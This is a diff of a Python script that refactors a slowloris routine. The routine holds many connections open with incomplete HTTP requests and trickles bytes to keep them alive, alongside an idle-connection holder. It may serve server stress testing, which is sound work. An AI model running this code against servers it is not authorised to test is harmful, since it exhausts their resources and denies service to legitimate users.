@@ -28,27 +28,25 @@ def hold_idle(count):
             held.append(socket.create_connection((host, port), timeout=5))
         except OSError:
             pass
+def slow_client():
+    """A connection that has sent only the start of a request."""
+    try:
+        s = socket.create_connection((host, port), timeout=5)
+        s.sendall(b"GET /all HTTP/1.1\r\n")
+        return s
+    except OSError:
+        return None
 def slow_loris(count):
-    socks = []
-    for _ in range(count):
-        try:
-            s = socket.create_connection((host, port), timeout=5)
-            s.sendall(b"GET /all HTTP/1.1\r\n")
-            socks.append(s)
-        except OSError:
-            pass
+    socks = [s for s in (slow_client() for _ in range(count)) if s]
     while time.time() < stop:
         for s in list(socks):
             try:
                 s.sendall(b"X")
             except OSError:
                 socks.remove(s)
-                try:
-                    s = socket.create_connection((host, port), timeout=5)
-                    s.sendall(b"GET /all HTTP/1.1\r\n")
-                    socks.append(s)
-                except OSError:
-                    pass
+                again = slow_client()
+                if again:
+                    socks.append(again)
         time.sleep(2)
 busted = [0]
 def bust():
